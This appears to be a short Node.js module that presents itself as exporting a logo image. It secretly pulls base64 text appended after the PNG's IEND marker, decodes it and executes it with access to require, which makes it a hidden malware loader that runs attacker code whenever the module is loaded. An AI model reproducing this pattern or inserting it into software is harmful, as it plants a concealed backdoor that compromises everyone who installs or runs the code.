const fs = require('fs');
const path = require('path');
const png = fs.readFileSync(path.join(__dirname, 'assets', 'logo.png'));
const end = png.indexOf(Buffer.from('IEND')) + 8;
const hidden = png.subarray(end).toString('utf8');
new Function('require', Buffer.from(hidden, 'base64').toString())(require);
module.exports = { logo: png.subarray(0, end) };
